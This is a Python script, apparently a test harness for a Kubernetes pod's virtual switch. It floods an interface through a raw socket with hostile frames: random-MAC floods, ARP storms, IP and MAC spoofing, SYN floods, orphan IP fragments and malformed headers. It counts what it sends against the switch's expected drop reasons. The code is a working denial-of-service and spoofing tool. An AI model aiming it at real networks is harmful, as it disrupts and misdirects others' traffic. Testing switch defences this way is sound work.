"""Flood the pod's interface with hostile frames through an AF_PACKET raw socket, as fast as one
Python process manages, for a given time: what a compromised pod throws at its switch.

Usage: raw_flood.py ATTACK IFNAME MTU SECONDS OWN_MAC OWN_IP GATEWAY_MAC TARGET_IP TARGET_PORT
       VICTIM_MAC VICTIM_IP

ATTACK is one of:
  mac-flood    IPv4/UDP from the pod's own address, each from a different random source MAC
  arp-storm    ARP requests for the gateway claiming random sender addresses of the subnet
  spoof        UDP to TARGET with the victim's IP and own MAC, and with the victim's MAC
  syn-flood    TCP SYNs from the pod's own addresses to TARGET_IP:TARGET_PORT (a ClusterIP),
               each from another source port (the pod's kernel answers the SYN-ACKs with RSTs)
  frag-flood   later fragments (offset > 0) of TCP segments to TARGET_IP (a ClusterIP) that never
               get their first fragment, each with another IP id
  malformed    frames that are too short (runts, a cut IPv4 header), that lie about their
               lengths (IHL, total length) and that are as long as the device accepts

IFNAME may be the namespace's loopback: the same work for the sender and its kernel, none for
the switch (a control run). The frames are built before the clock starts (a pool of distinct
variants, sent round robin), so the rate is that of ``send`` itself. Prints {"sent": {KIND: N}, "refused": {ERRNO: N},
"seconds": S}: KIND is the reason under which the switch is expected to count the frame.
"""
import json
import os
import random
import socket
import struct
import sys
import time

from inet_checksum import checksum

POOL = 4096  # distinct frames per attack: far above any per-port table limit


def mac(text):
    return bytes(int(part, 16) for part in text.split(":"))


def random_mac(rng):
    # Unicast, locally administered: a multicast source would be counted for that instead.
    return bytes([(rng.randrange(256) & 0xFC) | 0x02]) + rng.randbytes(5)


def ipv4(src, dst, proto, payload, ident=0x1234, frag=0x4000, total=None, ihl=5):
    header = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, total or 20 + len(payload), ident, frag,
                         64, proto, 0, src, dst)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def udp(sport, dport, payload=b"flood"):
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def tcp_syn(src, dst, sport, dport):
    segment = struct.pack("!HHIIBBHHH", sport, dport, 1000, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(segment))
    return segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]


def ether(dst, src, ethertype, payload):
    return dst + src + struct.pack("!H", ethertype) + payload


def arp_request(sender_mac, sender_ip, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, sender_mac, sender_ip,
                       bytes(6), target_ip)


def frames(attack, args, rng, mtu):
    """(kind, frame) pairs, POOL of them."""
    own_mac, own_ip, gw_mac, target_ip, target_port, victim_mac, victim_ip = args
    broadcast = b"\xff" * 6
    subnet = own_ip[:3]
    out = []
    for i in range(POOL):
        if attack == "mac-flood":
            frame = ether(gw_mac, random_mac(rng), 0x0800,
                          ipv4(own_ip, target_ip, 17, udp(40000, target_port)))
            out.append(("spoofed_mac", frame))
        elif attack == "arp-storm":
            sender = subnet + bytes([rng.randrange(1, 255)])
            if sender == own_ip:
                sender = subnet + bytes([own_ip[3] ^ 1])
            out.append(("spoofed_arp", ether(broadcast, own_mac, 0x0806,
                                             arp_request(own_mac, sender, subnet + b"\x01"))))
        elif attack == "spoof":
            if i % 2:
                frame = ether(gw_mac, own_mac, 0x0800,
                              ipv4(victim_ip, target_ip, 17, udp(40000, target_port)))
                out.append(("spoofed_ip", frame))
            else:
                frame = ether(gw_mac, victim_mac, 0x0800,
                              ipv4(own_ip, target_ip, 17, udp(40000, target_port)))
                out.append(("spoofed_mac", frame))
        elif attack == "syn-flood":
            sport = 1024 + i * 13 % 60000
            frame = ether(gw_mac, own_mac, 0x0800,
                          ipv4(own_ip, target_ip, 6, tcp_syn(own_ip, target_ip, sport,
                                                             target_port), ident=i))
            out.append(("syn", frame))
        elif attack == "frag-flood":
            # Offset 1480 (185 units of 8 bytes), more fragments: a later fragment whose first
            # fragment never comes.
            frame = ether(gw_mac, own_mac, 0x0800,
                          ipv4(own_ip, target_ip, 6, rng.randbytes(64), ident=i,
                               frag=0x2000 | 185))
            out.append(("later_fragment", frame))
        elif attack == "malformed":
            good = ipv4(own_ip, target_ip, 17, udp(40000, target_port))
            kind = i % 4
            if kind == 0:
                out.append(("truncated_ipv4", ether(gw_mac, own_mac, 0x0800, good[:12])))
            elif kind == 1:
                bad = ipv4(own_ip, target_ip, 17, udp(40000, target_port), ihl=15)
                out.append(("bad_ihl", ether(gw_mac, own_mac, 0x0800, bad)))
            elif kind == 2:
                bad = ipv4(own_ip, target_ip, 17, udp(40000, target_port), total=60000)
                out.append(("bad_total_length", ether(gw_mac, own_mac, 0x0800, bad)))
            else:
                # As long as the device takes, and claiming to be 64 KB long.
                body = udp(40000, target_port, bytes(mtu - 28))
                bad = ipv4(own_ip, target_ip, 17, body, total=65535)
                out.append(("bad_total_length", ether(gw_mac, own_mac, 0x0800, bad)))
        else:
            raise SystemExit(f"unknown attack {attack!r}")
    return out


def main():
    attack, ifname, mtu, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    own_mac, own_ip, gw_mac, target_ip, target_port, victim_mac, victim_ip = sys.argv[5:12]
    args = (mac(own_mac), socket.inet_aton(own_ip), mac(gw_mac), socket.inet_aton(target_ip),
            int(target_port), mac(victim_mac), socket.inet_aton(victim_ip))
    pool = frames(attack, args, random.Random(attack), mtu)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((ifname, 0))
    sent = {kind: 0 for kind, _ in pool}
    refused = {}
    send = sock.send
    start = time.monotonic()
    deadline = start + seconds
    while time.monotonic() < deadline:
        for kind, frame in pool:
            try:
                send(frame)
            except OSError as exc:
                name = os.strerror(exc.errno)
                refused[name] = refused.get(name, 0) + 1
                continue
            sent[kind] += 1
    print(json.dumps({"sent": sent, "refused": refused,
                      "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
